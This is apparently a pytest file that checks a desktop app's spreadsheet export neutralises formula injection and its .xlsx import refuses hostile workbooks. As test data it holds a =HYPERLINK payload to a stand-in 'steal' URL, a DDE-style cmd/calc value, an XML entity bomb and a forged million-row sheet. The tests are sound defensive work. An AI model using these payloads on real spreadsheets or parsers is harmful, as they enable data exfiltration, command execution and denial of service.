"""Spreadsheets written as data, never as formulas, and workbooks read within limits.

An office calls itself ``=HYPERLINK(…)``; a plan's wording begins with ``=``; a
hostile .xlsx claims a million rows or hides an entity bomb.  The lead office's staff
open the files in Excel without anything running, and plan-import answers in seconds
with one sentence.
"""

from __future__ import annotations

import csv
import io
import shutil
import time
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_app.core.cells import csv_field, csv_row
from desktop_app.core.errors import CatalogError
from desktop_app.core.exchange.submissions import SubmissionRow, write_submissions_xlsx
from desktop_app.core.plan_xlsx import export_plan_xlsx, import_plan_xlsx
from desktop_app.core.plans import plan_to_dict

FORMULA = '=HYPERLINK("http://x.example/steal?d="&A1,"Bấm vào đây")'


def formula_cells(path: Path) -> list[str]:
    book = load_workbook(path)  # not read-only: every cell with its type
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_an_office_named_like_a_formula_is_text_in_the_submissions_workbook(tmp_path):
    rows = [SubmissionRow("xa-la", FORMULA, 2026, "on_time", signer_name="@SUM(1+1)*cmd|' /C calc'!A0"),
            SubmissionRow("huyen", "-2+3", 2026, "missing", fingerprint="0123456789ABCDEF")]
    path = write_submissions_xlsx(rows, tmp_path / "nop.xlsx")
    assert formula_cells(path) == []
    sheet = load_workbook(path).active
    assert sheet["A2"].value == FORMULA  # the name exactly as sent, shown as text
    assert sheet["A2"].quotePrefix  # and Excel keeps it text when the cell is edited
    assert sheet["A3"].value == "-2+3"
    assert sheet["H2"].value.startswith("@SUM")


def test_control_characters_in_a_name_do_not_break_the_export(tmp_path):
    rows = [SubmissionRow("xa", "UBND xã\x07 Lạ\x1b", 2026, "missing")]
    path = write_submissions_xlsx(rows, tmp_path / "nop.xlsx")
    assert load_workbook(path).active["A2"].value == "UBND xã Lạ"


def test_plan_text_beginning_with_a_formula_sign_reads_back_the_same(tmp_path, mini_plan):
    first = mini_plan.indicators[0]
    odd = replace(first, name="=Tỉ lệ (%) thất nghiệp", note="+ ghi chú", unit="-")
    plan = replace(mini_plan, indicators=(odd, *mini_plan.indicators[1:]))
    path = export_plan_xlsx(plan, tmp_path / "mau.xlsx")
    assert formula_cells(path) == []
    assert plan_to_dict(import_plan_xlsx(path)) == plan_to_dict(plan)


def test_ids_are_text_cells_so_4_10_never_becomes_4_1(tmp_path, mini_plan):
    path = export_plan_xlsx(mini_plan, tmp_path / "mau.xlsx")
    sheet = load_workbook(path)["Chỉ tiêu"]
    assert sheet["A2"].value == "I.1" and sheet["A2"].number_format == "@"
    assert sheet["C2"].data_type == "s" and sheet["C2"].number_format == "@"


def test_csv_fields_beginning_with_a_formula_sign_are_neutralised():
    assert [csv_field(v) for v in ("=1+1", "+84 912", "-x", "@A1", "\tcmd", "\rcmd", "Sở Y tế")] == [
        "'=1+1", "'+84 912", "'-x", "'@A1", "'\tcmd", "'\rcmd", "Sở Y tế"]
    from decimal import Decimal

    assert csv_row([Decimal("-3.5"), -2, None, "4.10"]) == ["-3.5", "-2", "", "4.10"]
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([FORMULA]))
    assert not out.getvalue().startswith("=")


def _rewrite(path: Path, target: Path, change) -> Path:
    """A copy of the workbook with one XML part changed."""
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            out.writestr(item, change(item.filename, data))
    return target


def test_a_sheet_claiming_a_million_rows_is_refused_in_seconds_with_one_sentence(tmp_path, mini_plan):
    template = export_plan_xlsx(mini_plan, tmp_path / "mau.xlsx")

    def claim_everything(name: str, data: bytes) -> bytes:
        if name.startswith("xl/worksheets/"):
            import re

            return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
        return data

    hostile = _rewrite(template, tmp_path / "rong.xlsx", claim_everything)
    assert hostile.stat().st_size < 50_000
    start = time.monotonic()
    with pytest.raises(CatalogError) as error:
        import_plan_xlsx(hostile)
    assert time.monotonic() - start < 5
    assert "1048576" in error.value.en and "\n" not in error.value.vi


def test_rows_scattered_to_the_millionth_row_are_stopped_by_the_cell_budget(tmp_path, mini_plan):
    template = export_plan_xlsx(mini_plan, tmp_path / "mau.xlsx")

    def far_row(name: str, data: bytes) -> bytes:
        if name.endswith("sheet2.xml"):
            data = data.replace(b"</sheetData>", b'<row r="1048000"><c r="A1048000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
            import re

            data = re.sub(rb'<dimension ref="[^"]*"/>', b"", data)
        return data

    hostile = _rewrite(template, tmp_path / "xa.xlsx", far_row)
    start = time.monotonic()
    with pytest.raises(CatalogError) as error:
        import_plan_xlsx(hostile)
    assert time.monotonic() - start < 10
    assert "cells" in error.value.en


def test_an_xml_entity_bomb_is_refused_in_one_sentence(tmp_path, mini_plan):
    template = export_plan_xlsx(mini_plan, tmp_path / "mau.xlsx")
    entities = b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1)) * 10) for n in range(1, 10))
    doctype = b'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">' + entities + b"]>"

    def bomb(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            data = b'<?xml version="1.0"?>' + doctype + data.replace(b"<t>", b"<t>&lol9;", 1)
        return data

    hostile = _rewrite(template, tmp_path / "bom.xlsx", bomb)
    with pytest.raises(CatalogError) as error:
        import_plan_xlsx(hostile)
    assert "bom.xlsx" in error.value.vi and "\n" not in error.value.vi


def test_a_cut_off_workbook_is_one_sentence(tmp_path, mini_plan):
    template = export_plan_xlsx(mini_plan, tmp_path / "mau.xlsx")
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(template.read_bytes()[: template.stat().st_size // 2])
    with pytest.raises(CatalogError):
        import_plan_xlsx(cut)
    shutil.copy(template, tmp_path / "ok.xlsx")
    assert import_plan_xlsx(tmp_path / "ok.xlsx").code == mini_plan.code
